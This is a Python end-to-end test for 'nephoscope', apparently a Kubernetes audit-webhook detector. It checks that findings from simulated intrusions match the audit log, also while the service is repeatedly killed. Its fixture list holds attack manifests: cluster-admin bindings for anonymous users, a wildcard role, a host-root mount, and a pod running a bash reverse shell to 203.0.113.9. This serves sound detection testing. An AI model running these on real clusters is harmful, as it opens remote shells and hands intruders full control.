"""A real kube-apiserver sends its audit events: none is lost, none counts
twice, and what is found is what is found in the log file that it wrote too.

apiserver.py [KILLS]: a calm run, then nephoscope is killed so often under load
while the API server sends in batches, and again while it waits for each answer
("blocking"); then it is refused in all ways there are.
"""
import collections
import http.client
import json
import os
import pathlib
import shutil
import signal
import sys
import tempfile
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path += [str(HERE.parent / "servers"), str(HERE.parent / "e2e")]

from harness import run  # noqa: E402
from kubernetes import GROUP, Cluster, Missing, Pki, kubeconfig  # noqa: E402
from serving import Service, free_port, wait_for  # noqa: E402

KILLS = 5
CLUSTER = "metal-1"
THREADS = 4
DOWN_S = 3.0
CORE, RBAC = "/api/v1/namespaces/", f"/apis/{GROUP}/v1/"


def pod(name, spec=None, **container):
    return {"metadata": {"name": name}, "spec": {"containers": [{
        "name": "main", "image": "registry.k8s.io/pause:3.10",
        **container}], **(spec or {})}}


def binding(name, role, kind, subject, namespace=None):
    who = {"apiGroup": "" if namespace else GROUP, "kind": kind,
           "name": subject}
    if namespace:
        who["namespace"] = namespace
    return {"metadata": {"name": name}, "subjects": [who], "roleRef": {
        "apiGroup": GROUP, "kind": "ClusterRole", "name": role}}


# What an intruder does, and what is said of it.
ACTS = (
    (RBAC + "clusterrolebindings",
     binding("open", "cluster-admin", "User", "system:anonymous"),
     "Policy:Kubernetes/AnonymousAccessGranted"),
    (RBAC + "clusterrolebindings",
     binding("own", "cluster-admin", "ServiceAccount", "default", "default"),
     "Policy:Kubernetes/AdminAccessToDefaultServiceAccount"),
    (RBAC + "clusterrolebindings",
     binding("all", "admin", "Group", "system:authenticated"),
     "Policy:Kubernetes/EveryoneGranted"),
    (RBAC + "clusterroles",
     {"metadata": {"name": "all"}, "rules": [
         {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
     "PrivilegeEscalation:Kubernetes/RoleWithFullControl"),
    (CORE + "shop/pods",
     pod("host", {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]},
         volumeMounts=[{"name": "h", "mountPath": "/host"}]),
     "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!"
     "ContainerWithSensitiveMount"),
    (CORE + "shop/pods",
     pod("shell", command=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/443"
                           " 0>&1"]),
     "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed"),
    (CORE + "kube-system/serviceaccounts/default/token",
     {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
      "spec": {"audiences": [], "expirationSeconds": 86400}},
     "CredentialAccess:Kubernetes/ServiceAccountTokenIssued"),
    (CORE + "kube-system/configmaps",
     {"metadata": {"name": "coredns"}, "data": {"Corefile": "."}},
     "CredentialAccess:Kubernetes/ClusterDnsChanged"),
    ("/api/v1/persistentvolumes",
     {"metadata": {"name": "etc"}, "spec": {
         "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
         "hostPath": {"path": "/etc/kubernetes"}}},
     "PrivilegeEscalation:Kubernetes/HostPathVolume"),
    (CORE + "shop/services",
     {"metadata": {"name": "redis"}, "spec": {
         "type": "LoadBalancer", "selector": {"app": "redis"},
         "ports": [{"port": 6379}]}},
     "InitialAccess:Kubernetes/ServiceExposed"),
)


class Trial:
    def __init__(self, folder):
        self.folder = folder
        self.pki = Pki(folder / "pki")

    def service(self, name, token=False, mtls=False):
        tls = {"cert": self.pki["hook.pem"], "key": self.pki["hook.key"]}
        source = {"name": "hook", "kind": "webhook", "cluster": CLUSTER,
                  "listen": f"127.0.0.1:{free_port()}", "tls": tls}
        if mtls:
            tls["client_ca"] = self.pki["hook-client-ca.pem"]
        if token:
            source["token_file"] = self.pki["token"]
        return Service(self.folder / name, [source])

    def cluster(self, name, service, mode="batch", more=(), scheme="https",
                **auth):
        at = service.config["sources"][0]["listen"]
        return Cluster(self.folder / f"{name}-cluster", self.pki,
                       kubeconfig(self.pki, f"{scheme}://{at}/", **auth),
                       mode, more)

    # --- what is done to the API server

    @staticmethod
    def prepare(cluster):
        for name in ("shop", "kube-system", "default"):
            cluster.admin.call("POST", "/api/v1/namespaces",
                               {"metadata": {"name": name}})
            cluster.admin.call("POST", f"{CORE}{name}/serviceaccounts",
                               {"metadata": {"name": "default"}})

    def attack(self, cluster):
        self.prepare(cluster)
        for path, body, _ in ACTS:
            code = cluster.admin.call("POST", path, body)
            if code not in (200, 201):
                raise AssertionError(f"{path}: {code}")
        cluster.nobody.call("GET", "/api/v1/secrets")
        cluster.alice.call("GET", CORE + "shop/secrets",
                           Impersonate_User="admin")

    @staticmethod
    def load(cluster, answers, ended):
        """Threads that write and read until they are told to end."""
        numbers = iter(range(1 << 30))

        def once(n):
            if n % 3 == 2:
                return cluster.admin.call("GET", CORE + "shop/services")
            if n % 3 == 1:
                return cluster.admin.call("POST", CORE + "shop/pods", pod(
                    f"p{n}", securityContext={"privileged": True}))
            return cluster.admin.call("POST", CORE + "shop/configmaps",
                                      {"metadata": {"name": f"c{n}"}})

        def work():
            while not ended.is_set():
                try:
                    answers.append(once(next(numbers)))
                except (OSError, http.client.HTTPException) as error:
                    answers.append(type(error).__name__)
                time.sleep(0.02)

        threads = [threading.Thread(target=work) for _ in range(THREADS)]
        for thread in threads:
            thread.start()
        return threads

    # --- what both sides have

    def check(self, name, service, cluster):
        """The API server has ended and sent all; the log is the truth."""
        events = cluster.events()
        unique = len(set(events))
        wait_for("the last event", lambda: service.info()["kept"] == 0)
        service.stop()
        found = self.summary(service.listed().splitlines())
        want = self.summary(run(
            "backfill", "--cluster", CLUSTER, "--format", "guardduty",
            str(cluster.audit)).stdout.splitlines())
        if found != want:
            raise AssertionError(f"{name}: not as in the file: only here "
                                 f"{found - want}, only there {want - found}")
        # What the store does not know of the file was lost.
        stats = self.folder / f"{name}.json"
        run("backfill", "--state", str(service.store), "--cluster", CLUSTER,
            "--stats", str(stats), "-o", os.devnull, str(cluster.audit))
        told = json.loads(stats.read_text())
        read = told["events"]["k8s-audit"]
        lost = read - told["duplicates"]
        if read != len(events) or lost != 0:
            raise AssertionError(f"{name}: {lost} of {unique} lost: {told}")
        return unique, found

    @staticmethod
    def summary(lines):
        """What makes a finding, without where its records lie."""
        return collections.Counter(
            (f["id"], f["type"], f["severity"], f["service"]["count"],
             f["service"]["eventFirstSeen"], f["service"]["eventLastSeen"])
            for f in map(json.loads, lines))

    # --- the runs

    def calm(self):
        service = self.service("calm", token=True)
        with service:
            cluster = self.cluster("calm", service, token="token")
            try:
                self.attack(cluster)
                cluster.end()
                unique = len(set(cluster.events()))
                wait_for("all events", lambda: service.metric(
                    'events_total{source="k8s-audit"}') >= unique)
                metrics = service.metrics()
                _, found = self.check("calm", service, cluster)
            finally:
                cluster.close()
        took = metrics['nephoscope_events_total{source="k8s-audit"}']
        known = metrics[
            'nephoscope_events_duplicate_total{source="k8s-audit"}']
        if (took, known) != (unique, 0):
            raise AssertionError(f"{took} events, {known} known of {unique}")
        missing = {act[2] for act in ACTS} - {f[1] for f in found}
        if missing:
            raise AssertionError(f"not found: {missing}")
        print(f"calm: {unique} events logged and taken, {len(found)} "
              "findings, those of the log file", flush=True)

    def killed(self, mode, kills):
        service = self.service(mode, mtls=True)
        answers, ended, threads = [], threading.Event(), []
        with service:
            cluster = self.cluster(mode, service, mode, cert="client")
            try:
                self.attack(cluster)
                threads = self.load(cluster, answers, ended)
                for kill in range(kills):
                    time.sleep(2.0 + 0.37 * (kill % 7))
                    service.kill()
                    time.sleep(DOWN_S)
                    service.start()
                time.sleep(2)
                ended.set()
                for thread in threads:
                    thread.join()
                cluster.end()
                unique, found = self.check(mode, service, cluster)
            finally:
                ended.set()
                cluster.close()
        print(f"{mode}: {kills} kills, {unique} events, none lost or twice; "
              f"{len(found)} findings, those of the log file; answers "
              f"{dict(collections.Counter(answers))}", flush=True)

    def refused(self):
        """Whoever reads either log reads what to change."""
        words = "Error in audit plugin 'webhook'"
        for what, hook, auth, theirs, ours in (
                ("a wrong token", {"token": True}, {"token": "wrong-token"},
                 "nephoscope: A bearer token is needed",
                 "401 to 127.0.0.1: A bearer token is needed"),
                ("no certificate", {"mtls": True}, {"token": "token"},
                 "nephoscope: A client certificate is needed",
                 "403 to 127.0.0.1: A client certificate is needed"),
                ("a CA that did not sign", {"token": True},
                 {"token": "token", "ca": "other-ca"},
                 "certificate signed by unknown authority",
                 "needs the CA that signed tls.cert"),
                ("http", {"token": True},
                 {"token": "token", "scheme": "http"}, words,
                 "it must call https://")):
            name = "refused-" + what.split()[-1]
            service = self.service(name, **hook)
            with service:
                cluster = self.cluster(
                    name, service, more=[
                        "--audit-webhook-initial-backoff=100ms"], **auth)
                try:
                    wait_for(what, lambda c=cluster, t=theirs: any(
                        words in line and t in line
                        for line in c.said().splitlines()))
                    wait_for(what, lambda s=service, o=ours: o in s.said())
                finally:
                    cluster.close()
        print("refused: both logs say why", flush=True)


def main():
    kills = int(sys.argv[1]) if len(sys.argv) > 1 else KILLS
    # Asked to end, it ends what it started.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    folder = pathlib.Path(tempfile.mkdtemp(prefix="nephoscope-apiserver-"))
    try:
        trial = Trial(folder)
        trial.calm()
        trial.killed("batch", kills)
        trial.killed("blocking", kills)
        trial.refused()
    except Missing as missing:
        print(missing)
        sys.exit(1 if os.environ.get("NEPHOSCOPE_SERVERS") == "require"
                 else 77)
    except BaseException:
        print(f"its logs are kept in {folder}", flush=True)
        raise
    shutil.rmtree(folder)


if __name__ == "__main__":
    main()
